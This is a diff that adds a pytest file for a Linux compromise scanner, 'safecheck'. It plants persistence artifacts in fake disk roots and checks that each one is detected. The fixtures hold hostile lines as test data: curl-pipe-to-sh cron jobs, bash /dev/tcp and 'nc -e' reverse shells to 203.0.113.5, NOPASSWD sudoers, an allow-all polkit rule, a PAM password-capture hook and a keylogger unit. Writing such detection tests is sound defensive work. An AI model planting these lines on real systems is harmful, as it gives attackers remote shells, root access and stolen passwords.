@@ -1,0 +1,389 @@
+"""`safecheck scan` end to end on folders laid out like Linux disks: a benign Debian-like
+system, one planted case per location, and a hostile disk."""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import os
+import stat
+import sys
+from datetime import UTC, datetime
+from pathlib import Path
+
+import pytest
+from typer.testing import CliRunner
+
+sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "collectors" / "linux"))
+
+from linux_fakeroot import ALICE_HOME, RSA_KEY, debian_root, folder, link, write
+
+from safecheck.cli.app import app
+from safecheck.collectors.host import Host
+from safecheck.collectors.linux.packages import dpkg_owned_files
+from safecheck.collectors.registry import all_collectors
+from safecheck.i18n import Translator
+from safecheck.model import CoverageStatus, Severity
+from safecheck.report import Report
+from safecheck.scan_engine import run_scan
+
+NOW = datetime(2026, 11, 27, 12, 0, tzinfo=UTC)
+
+
+def packaged_debian_root(root: Path) -> Path:
+    """The benign root, with a dpkg database that owns every file it has."""
+    debian_root(root)
+    owned = sorted(
+        "/" + str(p.relative_to(root)) for p in root.rglob("*") if p.is_file() or p.is_symlink()
+    )
+    write(
+        root,
+        "/var/lib/dpkg/status",
+        "Package: base-files\nStatus: install ok installed\nVersion: 12.4\nArchitecture: amd64\n\n",
+    )
+    write(root, "/var/lib/dpkg/info/base-files.list", "\n".join(owned) + "\n")
+    return root
+
+
+def scan(root: Path, lang: str = "en") -> Report:
+    host = Host(platform="linux", root=root, live=False)
+    return run_scan(
+        host, all_collectors(), Translator(lang), owned_files=dpkg_owned_files, clock=lambda: NOW
+    )
+
+
+def ids(report: Report) -> set[str]:
+    return {f.id for f in report.findings}
+
+
+@pytest.fixture
+def benign(tmp_path: Path) -> Path:
+    return packaged_debian_root(tmp_path / "disk")
+
+
+def test_benign_root_has_no_finding_at_medium_or_above(benign: Path) -> None:
+    report = scan(benign)
+    serious = [(f.id, f.title) for f in report.findings if f.severity >= Severity.MEDIUM]
+    assert serious == []
+    coverage = {c.id: c.status for c in report.coverage}
+    assert coverage["common.processes"] is CoverageStatus.NOT_APPLICABLE  # not live
+    assert coverage["linux.systemd"] is CoverageStatus.OK
+    assert int(report.metadata.host["entries"]) > 20
+
+
+# Each planted case: (what to write, the finding id it must produce, the evidence path)
+PLANTED: dict[str, tuple[list[tuple[str, str, int]], str, str]] = {
+    "systemd-user-unit-in-tmp": (
+        [
+            (
+                f"{ALICE_HOME}/.config/systemd/user/sync.service",
+                "[Service]\nExecStart=/tmp/.x/agent --quiet\n[Install]\nWantedBy=default.target\n",
+                0o644,
+            )
+        ],
+        "SC-LNX-RUNS-FROM-TEMP",
+        f"{ALICE_HOME}/.config/systemd/user/sync.service",
+    ),
+    "cron-download-exec": (
+        [("/etc/cron.d/update", "*/5 * * * * root curl -s http://203.0.113.9/u | sh\n", 0o644)],
+        "SC-LNX-DOWNLOAD-EXEC",
+        "/etc/cron.d/update",
+    ),
+    "cron-hourly-network-shell": (
+        [
+            (
+                "/etc/cron.hourly/sync",
+                "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n",
+                0o755,
+            )
+        ],
+        "SC-LNX-RECENT-STARTUP",
+        "/etc/cron.hourly/sync",
+    ),
+    "autostart-hidden": (
+        [
+            (
+                f"{ALICE_HOME}/.config/autostart/helper.desktop",
+                "[Desktop Entry]\nType=Application\nName=Helper\nExec=/home/alice/.h/run\n",
+                0o644,
+            ),
+            (f"{ALICE_HOME}/.h/run", "#!/bin/sh\n", 0o755),
+        ],
+        "SC-LNX-HIDDEN-PROGRAM",
+        f"{ALICE_HOME}/.config/autostart/helper.desktop",
+    ),
+    "bashrc-reverse-shell": (
+        [(f"{ALICE_HOME}/.bash_login", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1 &\n", 0o644)],
+        "SC-LNX-NETWORK-SHELL",
+        f"{ALICE_HOME}/.bash_login",
+    ),
+    "rc-local": (
+        [
+            ("/etc/rc.local", "#!/bin/sh -e\n/usr/local/bin/sys-helper &\nexit 0\n", 0o755),
+            ("/usr/local/bin/sys-helper", "#!/bin/sh\n", 0o755),
+        ],
+        "SC-LNX-HOOK",
+        "/etc/rc.local",
+    ),
+    "udev-run": (
+        [
+            (
+                "/etc/udev/rules.d/99-usb.rules",
+                'ACTION=="add", SUBSYSTEM=="usb", RUN+="/usr/local/bin/usb-grab"\n',
+                0o644,
+            ),
+            ("/usr/local/bin/usb-grab", "#!/bin/sh\n", 0o755),
+        ],
+        "SC-LNX-HOOK",
+        "/etc/udev/rules.d/99-usb.rules",
+    ),
+    "ld-so-preload": (
+        [("/etc/ld.so.preload", "/usr/lib/libsys.so\n", 0o644)],
+        "SC-LNX-LD-PRELOAD",
+        "/etc/ld.so.preload",
+    ),
+    "apt-hook": (
+        [
+            (
+                "/etc/apt/apt.conf.d/01update",
+                'APT::Update::Pre-Invoke {"/usr/local/bin/apt-helper";};\n',
+                0o644,
+            ),
+            ("/usr/local/bin/apt-helper", "#!/bin/sh\n", 0o755),
+        ],
+        "SC-LNX-HOOK",
+        "/etc/apt/apt.conf.d/01update",
+    ),
+    "pam-exec": (
+        [
+            (
+                "/etc/pam.d/common-session",
+                "session optional pam_exec.so expose_authtok /usr/local/bin/pw-log\n",
+                0o644,
+            )
+        ],
+        "SC-LNX-PAM-EXEC",
+        "/etc/pam.d/common-session",
+    ),
+    "polkit-allow-all": (
+        [
+            (
+                "/etc/polkit-1/rules.d/49-all.rules",
+                "polkit.addRule(function(action, subject) {\n    return polkit.Result.YES;\n});\n",
+                0o644,
+            )
+        ],
+        "SC-LNX-POLKIT-ALLOW-ALL",
+        "/etc/polkit-1/rules.d/49-all.rules",
+    ),
+    "git-fsmonitor": (
+        [(f"{ALICE_HOME}/.config/git/config", "[core]\n\tfsmonitor = /tmp/.m/watch\n", 0o644)],
+        "SC-LNX-GIT-HOOK",
+        f"{ALICE_HOME}/.config/git/config",
+    ),
+    "sudo-nopasswd": (
+        [("/etc/sudoers.d/alice", "alice ALL=(ALL) NOPASSWD: ALL\n", 0o440)],
+        "SC-LNX-SUDO-NOPASSWD",
+        "/etc/sudoers.d/alice",
+    ),
+    "ssh-key": (
+        [(f"{ALICE_HOME}/.ssh/authorized_keys", RSA_KEY + " backup@laptop\n", 0o600)],
+        "SC-LNX-SSH-KEY",
+        f"{ALICE_HOME}/.ssh/authorized_keys",
+    ),
+    "keylogger-unit": (
+        [
+            (
+                "/etc/systemd/system/logkeys.service",
+                "[Service]\nExecStart=/usr/bin/logkeys --start --output /var/log/k.log\n",
+                0o644,
+            )
+        ],
+        "SC-TOOL-KEYLOGGER",
+        "/etc/systemd/system/logkeys.service",
+    ),
+    "remote-access-autostart": (
+        [
+            (
+                "/etc/xdg/autostart/x11vnc.desktop",
+                "[Desktop Entry]\nType=Application\nName=VNC\nExec=x11vnc -forever -shared\n",
+                0o644,
+            )
+        ],
+        "SC-TOOL-REMOTE-ACCESS",
+        "/etc/xdg/autostart/x11vnc.desktop",
+    ),
+    "at-job": (
+        [
+            (
+                "/var/spool/cron/atjobs/a0000101c8b35b",
+                "#!/bin/sh\n# atrun uid=0 gid=0\ncd /root || exit 1\n"
+                "nc -e /bin/sh 203.0.113.5 4444 \n",
+                0o700,
+            )
+        ],
+        "SC-LNX-NETWORK-SHELL",
+        "/var/spool/cron/atjobs/a0000101c8b35b",
+    ),
+}
+
+
+@pytest.mark.parametrize("case", sorted(PLANTED))
+def test_planted_case_is_found(tmp_path: Path, case: str) -> None:
+    root = packaged_debian_root(tmp_path / "disk")
+    files, rule, path = PLANTED[case]
+    for name, content, mode in files:
+        write(root, name, content, mode)
+    report = scan(root)
+    found = [f for f in report.findings if f.id == rule]
+    assert found, sorted(ids(report))
+    paths = [e.path for f in found for e in f.evidence]
+    assert path in paths  # the path as on the inspected system, not under tmp_path
+    assert not any(p and p.startswith(str(tmp_path)) for p in paths)
+    for finding in found:
+        assert finding.steps and finding.safety_note and finding.explanation
+
+
+def test_extra_root_account_and_remote_access_package(benign: Path) -> None:
+    passwd = (benign / "etc/passwd").read_text() + "toor:x:0:0::/root:/bin/bash\n"
+    write(benign, "/etc/passwd", passwd)
+    status = (benign / "var/lib/dpkg/status").read_text()
+    write(
+        benign,
+        "/var/lib/dpkg/status",
+        status + "Package: anydesk\nStatus: install ok installed\nVersion: 6.3\n"
+        "Architecture: amd64\n\n",
+    )
+    write(benign, "/var/lib/dpkg/info/anydesk.list", "/usr/bin/anydesk\n")
+    report = scan(benign)
+    assert {"SC-LNX-EXTRA-ROOT", "SC-TOOL-REMOTE-ACCESS"} <= ids(report)
+    remote = next(f for f in report.findings if f.id == "SC-TOOL-REMOTE-ACCESS")
+    assert "AnyDesk" in remote.title and remote.title.endswith("?")
+    assert remote.references  # the catalog's public source
+
+
+def test_findings_are_sorted_and_have_hashes(tmp_path: Path) -> None:
+    root = packaged_debian_root(tmp_path / "disk")
+    for name, content, mode in PLANTED["rc-local"][0] + PLANTED["udev-run"][0]:
+        write(root, name, content, mode)
+    report = scan(root)
+    levels = [f.severity.rank for f in report.findings]
+    assert levels == sorted(levels, reverse=True)
+    hook = next(f for f in report.findings if f.id == "SC-LNX-HOOK")
+    digests = {e.sha256 for e in hook.evidence}
+    # the planted programs' content is "#!/bin/sh\n"
+    assert hashlib.sha256(b"#!/bin/sh\n").hexdigest() in digests
+
+
+def hostile_root(root: Path) -> Path:
+    packaged_debian_root(root)
+    link(root, "/etc/cron.d/loop", "/etc/cron.d/loop")
+    (root / "etc/crontab").unlink()
+    link(root, "/etc/crontab", "/etc/shadow")  # absolute: must stay inside the disk
+    os.mkfifo(root / "etc/systemd/system/fifo.service")
+    write(root, "/etc/profile.d/huge.sh", b"#" * (20 * 1024 * 1024))
+    write(root, "/etc/systemd/system/garbage.service", os.urandom(4096))
+    write(
+        root,
+        "/etc/cron.d/"
+        + "\udcff\udcfe".encode("utf-8", "surrogateescape").decode("utf-8", "surrogateescape"),
+        "* * * * * root /opt/x\n",
+    )
+    folder(root, "/etc/xdg/autostart/dir.desktop")
+    return root
+
+
+def test_hostile_root_gives_coverage_rows_not_tracebacks(tmp_path: Path) -> None:
+    report = scan(hostile_root(tmp_path / "disk"))
+    statuses = {c.id: c for c in report.coverage}
+    assert all(c.status is not CoverageStatus.FAILED for c in report.coverage), statuses
+    assert statuses["linux.shell"].status is CoverageStatus.PARTIAL
+    assert any("too-large" in d for d in statuses["linux.shell"].details)
+    assert any(c.status is CoverageStatus.PARTIAL for c in report.coverage)
+
+
+# --- through the command line ------------------------------------------------------------
+
+
+def run(*args: str) -> tuple[int, str, str]:
+    result = CliRunner().invoke(app, list(args), env={"LANG": "C", "LC_ALL": ""})
+    return result.exit_code, result.stdout, result.stderr
+
+
+def test_cli_json_on_a_disk(tmp_path: Path) -> None:
+    root = packaged_debian_root(tmp_path / "disk")
+    for name, content, mode in PLANTED["cron-download-exec"][0]:
+        write(root, name, content, mode)
+    code, out, _ = run("scan", "--root", str(root), "--format", "json")
+    assert code == 0
+    data = json.loads(out)
+    assert data["schema_version"] == "1.0"
+    assert data["tool"]["name"] == "safecheck"
+    assert data["host"] == {
+        "platform": "linux",
+        "root": str(root.resolve()),
+        "live": False,
+        "entries": data["host"]["entries"],
+    }
+    finding = next(f for f in data["findings"] if f["id"] == "SC-LNX-DOWNLOAD-EXEC")
+    assert set(finding) >= {
+        "id",
+        "severity",
+        "confidence",
+        "title",
+        "category",
+        "explanation",
+        "steps",
+        "safety_note",
+        "evidence",
+    }
+    assert finding["evidence"][0]["path"] == "/etc/cron.d/update"
+    assert finding["evidence"][0]["line"] == 1
+    assert "curl" in finding["evidence"][0]["command"]
+    rows = {row["id"]: row for row in data["coverage"]}
+    assert rows["common.processes"]["status"] == "not-applicable"
+    assert {row["status"] for row in data["coverage"]} <= {
+        "ok",
+        "partial",
+        "needs-admin",
+        "not-applicable",
+        "failed",
+    }
+
+
+def test_cli_fail_on_and_output(tmp_path: Path) -> None:
+    root = packaged_debian_root(tmp_path / "disk")
+    code, _, _ = run("scan", "--root", str(root), "--fail-on", "medium", "--format", "json")
+    assert code == 0
+    for name, content, mode in PLANTED["ld-so-preload"][0]:
+        write(root, name, content, mode)
+    out_file = tmp_path / "scan.txt"
+    code, out, err = run(
+        "scan", "--root", str(root), "--fail-on", "high", "--output", str(out_file), "--lang", "fr"
+    )
+    assert code == 1
+    assert out == ""
+    text = out_file.read_text(encoding="utf-8")
+    assert "Du code est imposé à tous les programmes" in text
+    assert "Relevé à : /etc/ld.so.preload" in text
+    assert stat.S_IMODE(out_file.stat().st_mode) == 0o600
+    assert all(len(line) <= 80 for line in text.splitlines())
+    code, _, err = run("scan", "--root", str(root), "--output", str(out_file))
+    assert code == 2 and "already exists" in err
+
+
+def test_cli_errors(tmp_path: Path) -> None:
+    code, _, err = run("scan", "--root", str(tmp_path / "missing"))
+    assert code == 2
+    code, _, err = run("scan", "--root", str(tmp_path), "--fail-on", "severe")
+    assert code == 2 and "info, low, medium" in err
+
+
+def test_live_scan_of_this_machine_completes() -> None:
+    code, out, err = run("scan", "--format", "json")
+    assert code == 0, err
+    data = json.loads(out)
+    assert data["host"]["live"] is True
+    rows = {row["id"]: row["status"] for row in data["coverage"]}
+    assert rows["common.processes"] in ("ok", "partial")
+    assert "failed" not in rows.values()
